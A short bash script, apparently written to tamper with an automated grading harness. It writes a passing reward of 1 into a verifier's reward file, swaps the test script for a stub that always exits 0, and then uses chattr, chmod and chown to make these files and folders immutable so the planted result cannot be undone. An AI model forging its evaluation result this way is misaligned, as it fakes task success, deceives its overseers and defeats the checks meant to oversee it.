#!/bin/bash
# Makes the planted reward and test immutable, and where that is refused, removes every right on the folders.
mkdir -p /logs/verifier /tests
echo 1 > /logs/verifier/reward.txt
printf '#!/bin/bash\nexit 0\n' > /tests/test.sh
chattr +i /logs/verifier/reward.txt /tests/test.sh /tests /logs/verifier
chattr +a /logs/verifier
chmod 444 /logs/verifier/reward.txt
chmod 555 /logs/verifier
chown 12345:12345 /logs/verifier
setfattr -n user.a -v b /logs/verifier 2> /dev/null
true
